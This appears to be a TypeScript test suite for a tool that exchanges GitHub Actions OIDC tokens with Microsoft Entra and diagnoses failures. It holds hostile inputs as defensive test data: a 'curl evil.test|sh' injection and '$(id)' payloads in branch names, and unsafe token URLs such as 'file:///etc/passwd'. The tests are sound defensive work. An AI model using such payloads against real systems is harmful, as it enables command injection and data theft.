import type { ServerResponse } from 'node:http';
import type { TokenRequest } from '../../src/model/account.ts';
import type { Checked } from '../../src/model/diagnosis.ts';
import type { Failure } from '../../src/model/failure.ts';
import { audienceFor, cloudOfLogin } from '../../src/model/microsoft-clouds.ts';
import { obtainToken } from '../../src/token/obtain.ts';
import {
  CLAIMS,
  oidcToken,
  type PlayedRunner,
  REQUEST_TOKEN,
  startPlayedRunner,
} from '../support/played-runner.ts';
import { GOOD, playToken } from '../support/token-check.ts';

/** GitHub's OIDC token as the proof of the client: how it is got, and where it is sent. */

let runner: PlayedRunner;
afterEach(() => {
  runner.close();
});

const federated = { 'client-id': '00000000-0000-0000-0000-000000000002' };

async function checkIn(
  environment: NodeJS.ProcessEnv,
  inputs: Parameters<typeof playToken>[0]['inputs'] = {},
): Promise<{ result: Checked; forms: readonly { readonly form: URLSearchParams }[] }> {
  return playToken({
    token: [GOOD],
    smtp: ['235 2.7.0 OK'],
    inputs: { ...federated, ...inputs },
    environment,
  });
}

test('the token of the job is the assertion of the client, and it is masked', async () => {
  runner = await startPlayedRunner();
  const { result, forms } = await checkIn(runner.environment);
  expect(result.diagnosis.verdict).toBe('accepted');
  const form = forms[0]?.form;
  expect(form?.get('client_assertion')).toBe(oidcToken(CLAIMS));
  expect(form?.get('client_assertion_type')).toMatch(/jwt-bearer$/);
  expect(form?.get('client_secret')).toBeNull();
  expect(runner.audiences).toEqual(['api://AzureADTokenExchange']);
  expect(JSON.stringify(result)).not.toContain(oidcToken(CLAIMS));
});

describe('a job without an OIDC token', () => {
  test.each<[string, NodeJS.ProcessEnv, RegExp, RegExp]>([
    [
      'outside of GitHub Actions',
      {},
      /exists only in a job of GitHub Actions/,
      /"client-secret", or "client-certificate" and "client-key", or an "access-token"/,
    ],
    [
      'without "id-token: write"',
      { GITHUB_ACTIONS: 'true' },
      /no permission/,
      /permissions: id-token: write/,
    ],
    [
      'of a pull request',
      { GITHUB_ACTIONS: 'true', GITHUB_EVENT_NAME: 'pull_request' },
      /pull request from a fork, or of Dependabot, never gets it/,
      /head\.repo\.full_name == github\.repository/,
    ],
  ])('%s is told what is missing', async (_, environment, meaning, step) => {
    runner = await startPlayedRunner();
    const { result, forms } = await checkIn(environment);
    expect(result.diagnosis).toMatchObject({ verdict: 'config', cause: 'token-request-invalid' });
    expect(result.diagnosis.meaning).toMatch(meaning);
    expect(result.diagnosis.nextStep).toMatch(step);
    expect([forms.length, runner.audiences.length]).toEqual([0, 0]);
  });

  test('an empty secret is named as a reason', async () => {
    runner = await startPlayedRunner();
    const { result } = await checkIn({});
    expect(result.diagnosis.meaning).toContain('an empty secret counts as not given');
  });
});

describe('a service that gives no token', () => {
  const status =
    (code: number, body = '') =>
    (response: ServerResponse): unknown =>
      response.writeHead(code, { 'retry-after': '1' }).end(body);
  test.each<[string, (response: ServerResponse) => unknown, string, string, RegExp]>([
    ['401', status(401), 'config', 'token-request-invalid', /run the job again.*id-token: write/i],
    [
      '403',
      status(403),
      'config',
      'token-request-invalid',
      /id-token: write.*organization or enterprise/,
    ],
    ['404', status(404), 'config', 'token-request-invalid', /run the job again/i],
    ['429', status(429), 'temporary', 'token-unavailable', /again later/],
    ['503', status(503), 'temporary', 'token-unavailable', /again later/],
    ['a web page', status(200, '<html>'), 'protocol', 'token-reply-malformed', /proxy or firewall/],
    ['no value', status(200, '{}'), 'protocol', 'token-reply-malformed', /proxy or firewall/],
    [
      'a value with a line break',
      status(200, '{"value":"a\\nb"}'),
      'protocol',
      'token-reply-malformed',
      /proxy or firewall/,
    ],
    [
      'a value that is a list',
      status(200, '{"value":["a"]}'),
      'protocol',
      'token-reply-malformed',
      /proxy or firewall/,
    ],
    ['a redirect', status(302), 'protocol', 'token-reply-malformed', /proxy or firewall/],
    [
      'no reply',
      (response) => response.socket?.destroy(),
      'unreachable',
      'token-endpoint-unreachable',
      /HTTPS connections to 127\.0\.0\.1/,
    ],
  ])('that answers with %s is told apart', async (_, answer, verdict, cause, step) => {
    runner = await startPlayedRunner(answer);
    const { result, forms } = await checkIn(runner.environment, { retries: '0' });
    expect(result.diagnosis).toMatchObject({ verdict, cause });
    expect(result.diagnosis.nextStep).toMatch(step);
    expect(result.diagnosis.nextStep).not.toContain('token-endpoint');
    expect(forms).toEqual([]);
  });

  test('its Retry-After is kept', async () => {
    runner = await startPlayedRunner(status(503));
    const { result } = await checkIn(runner.environment, { retries: '0' });
    expect(result.failure?.token).toMatchObject({
      party: 'github',
      status: 503,
      retryAfterMs: 1000,
    });
  });

  test('what it repeats of the key is redacted', async () => {
    runner = await startPlayedRunner(status(403, JSON.stringify({ message: REQUEST_TOKEN })));
    const { result } = await checkIn(runner.environment);
    expect(result.failure?.detail).toBe('HTTP status 403: [redacted]');
  });
});

test.each([
  ['http://runner.example.test/token'],
  ['http://127.0.0.1.example.test/token'],
  ['http://localhost@example.test/token'],
  ['file:///etc/passwd'],
  ['nonsense'],
])("the runner's key is not sent to %s", async (url) => {
  runner = await startPlayedRunner();
  const { result } = await checkIn({ ...runner.environment, ACTIONS_ID_TOKEN_REQUEST_URL: url });
  expect(result.failure).toMatchObject({
    problem: 'token-request-invalid',
    code: 'address-unsafe',
  });
  expect(runner.audiences).toEqual([]);
});

describe('where the token is sent', () => {
  const ask = async (
    endpoint: string,
    endpointFrom: TokenRequest['endpointFrom'],
  ): Promise<Failure> => {
    runner = await startPlayedRunner();
    const grant = {
      kind: 'client-credentials',
      clientId: 'app',
      proof: { kind: 'github-oidc' },
    } as const;
    const tools = { signal: AbortSignal.timeout(2000), learn: () => undefined };
    const { environment } = runner;
    return obtainToken({ endpoint, endpointFrom, grant }, tools, { environment }).then(
      () => {
        throw new Error('a token came');
      },
      (error: unknown) => error as Failure,
    );
  };

  test.each([
    ['https://login.example.test/token', 'tenant-id'],
    ['https://login.microsoftonline.com.example.test/x', 'tenant-id'],
    ['https://login.microsoftonline.com:8443/x', 'tenant-id'],
    ['https://oauth2.googleapis.com/token', 'credentials-json'],
  ] as const)('not to %s, which nobody named for it', async (endpoint, from) => {
    const failure = await ask(endpoint, from);
    expect(failure).toMatchObject({ problem: 'token-request-invalid', code: 'endpoint-foreign' });
    expect(runner.audiences).toEqual([]); // GitHub is not even asked
  });

  test('to an endpoint that the user named', async () => {
    const failure = await ask('https://127.0.0.1:1/token', 'token-endpoint');
    expect(failure).toMatchObject({ problem: 'token-endpoint-unreachable', code: 'ECONNREFUSED' });
    expect(failure.token?.job?.subject).toBe(CLAIMS.sub);
  });

  test.each([
    ['https://login.microsoftonline.com/t/oauth2/v2.0/token', 'api://AzureADTokenExchange'],
    ['https://login.microsoftonline.us/t/oauth2/v2.0/token', 'api://AzureADTokenExchangeUSGov'],
    ['https://login.partner.microsoftonline.cn/t', 'api://AzureADTokenExchangeChina'],
    ['https://login.chinacloudapi.cn/t', 'api://AzureADTokenExchangeChina'],
  ])('%s wants its own audience', (address, audience) => {
    expect(cloudOfLogin(new URL(address).host)).toBeDefined();
    expect(audienceFor(new URL(address).host)).toBe(audience);
    runner = { environment: {}, audiences: [], close: () => undefined };
  });
});

describe('a job that Microsoft does not trust', () => {
  const refuse = async (
    number: number,
    claims: object,
  ): Promise<{ meaning: string; nextStep: string; verdict: string }> => {
    runner = await startPlayedRunner((response) =>
      response.end(JSON.stringify({ value: oidcToken(claims) })),
    );
    const body = {
      error: 'invalid_client',
      error_description: `AADSTS${number}: No matching federated identity record found.`,
      error_codes: [number],
    };
    const { environment } = runner;
    const token = [{ status: 401, body }];
    return (await playToken({ token, inputs: federated, environment })).result.diagnosis;
  };
  const COMMAND = `az ad app federated-credential create --id 00000000-0000-0000-0000-000000000002 --parameters '{"name":"smtp-auth-check","issuer":"https://token.actions.githubusercontent.com","subject":"repo:acme@5544123/mail@821093847:environment:production","audiences":["api://AzureADTokenExchange"]}'`;

  test.each([
    [70021, /Subject, issuer or audience does not match/],
    [700211, /The issuer does not match/],
    [700212, /The audience does not match/],
    [700213, /The subject does not match/],
    [7002138, /letter case of the subject does not match/],
  ])('AADSTS%i: which claim it is, all three, and the command', async (number, meaning) => {
    const said = await refuse(number, CLAIMS);
    expect(said.verdict).toBe('rejected');
    expect(said.meaning).toMatch(meaning);
    for (const claim of Object.values(CLAIMS)) expect(said.meaning).toContain(`"${claim}"`);
    expect(said.nextStep).toContain(COMMAND);
    expect(said.meaning.length).toBeLessThan(1000);
    expect(said.nextStep.length).toBeLessThan(1000);
  });

  test('that a secret may be empty is said with every refusal, and nobody is told to check one', async () => {
    const said = await refuse(700016, CLAIMS);
    expect(said.meaning).toContain('no secret was given (an empty one counts as not given)');
    expect(said.nextStep).not.toContain('client-secret');
  });

  test('the newer form of the subject is explained, the older one is not', async () => {
    expect((await refuse(700213, CLAIMS)).meaning).toContain('IDs of owner and repository');
    runner.close();
    const older = { ...CLAIMS, sub: 'repo:acme/mail:ref:refs/heads/main' };
    expect((await refuse(700213, older)).meaning).not.toContain('IDs of owner');
  });

  test.each([
    `repo:acme/mail:ref:refs/heads/x';curl evil.test|sh;'`,
    'repo:acme/mail:ref:refs/heads/$(id)',
    'repo:acme/mail:ref:refs/heads/`id`',
    'repo:acme/mail:ref:refs/heads/a"b',
    `repo:acme/mail:ref:refs/heads/${'x'.repeat(301)}`,
  ])('a branch whose name a shell would run is not a command: %s', async (sub) => {
    const said = await refuse(700213, { ...CLAIMS, sub });
    expect(said.nextStep).not.toContain('az ad');
    expect(said.nextStep).toMatch(/exactly these three values/);
  });

  test.each([[{ sub: ['x'], iss: 1, aud: {} }], [{}], ['text']])(
    'claims that are not text (%j) are left out',
    async (claims) => {
      const said = await refuse(700213, claims as object);
      expect(said.meaning).toMatch(/The subject does not match/);
    },
  );

  test('a claim that repeats the key of the runner is redacted', async () => {
    const said = await refuse(700213, { ...CLAIMS, sub: `repo:${REQUEST_TOKEN}` });
    expect(JSON.stringify(said)).not.toContain(REQUEST_TOKEN);
  });
});
